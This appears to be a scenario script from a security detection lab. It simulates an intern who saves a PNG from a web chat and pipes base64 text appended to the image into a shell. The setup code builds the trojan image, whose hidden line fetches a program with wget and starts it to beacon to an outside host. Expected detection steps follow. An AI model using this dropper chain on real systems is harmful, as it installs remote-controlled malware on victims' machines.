# A picture with a tail; the line that runs the tail comes by chat.
title="Tail of a picture saved from chat piped into a shell"
what="The intern opens the web chat chat.example.com, saves dock-theme.png with Chromium and pastes the line that the same person sent, which sets the picture as background: the lines behind the picture go through base64 into a shell. It fetches a program into ~/.local/share and starts it; it connects to 203.0.113.67. The host records commands, connections"
host=ws3.example.org user=intern daemons="cron" audit_rules=audit-reach.rules audit_format=RAW
setup() {
  cc -O1 -o "$base/out/www/dockd" "$lab/lib/stand-ins/beacon.c"
  python3 - "$base/out/www/dock-theme.png" <<'P'
import base64, os, struct, sys, zlib
def chunk(kind, data): return struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
rows = b''.join(b'\0' + os.urandom(300) for _ in range(100))
png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 100, 100, 8, 2, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(rows)) + chunk(b'IEND', b'')
line = b'mkdir -p ~/.local/share/dock && wget -q -O ~/.local/share/dock/dockd http://203.0.113.66/dockd && chmod +x ~/.local/share/dock/dockd && (setsid ~/.local/share/dock/dockd 203.0.113.67 9001 >/dev/null 2>&1 &)\n'
open(sys.argv[1], 'wb').write(png + b'\n' + base64.b64encode(line) + b'\n')
P
}
act() {
  small_talk 2
  display_up
  downloads=/home/intern/Pictures
  chromium_as intern http://chat.example.com/dock-theme.png
  wait_file /home/intern/Pictures/dock-theme.png 40 || true
  sleep 3
  console_as intern <<'L'
cd Pictures
ls -l
%sleep 2
file dock-theme.png
tail -n 1 ~/Pictures/dock-theme.png | base64 -d | sh
ls
L
  desktop_close
  small_talk 1
}
truth() {
  net_step visit 'chromium.* 203.0.113.82:80' 'the browser is at a chat service that is not ours'
  exec_step tail 'tail -n 1 /home/intern/Pictures/dock-theme.png' 'the end of the picture is read'
  exec_step decode 'base64 -d' 'decoded'
  exec_step fetch 'wget -q -O /home/intern/.local/share/dock/dockd' 'and run: it fetches a program'
  exec_step execute 'dock/dockd 203' 'and starts it'
  net_step beacon 'dockd 203.0.113.67:9001' 'it calls out'
}
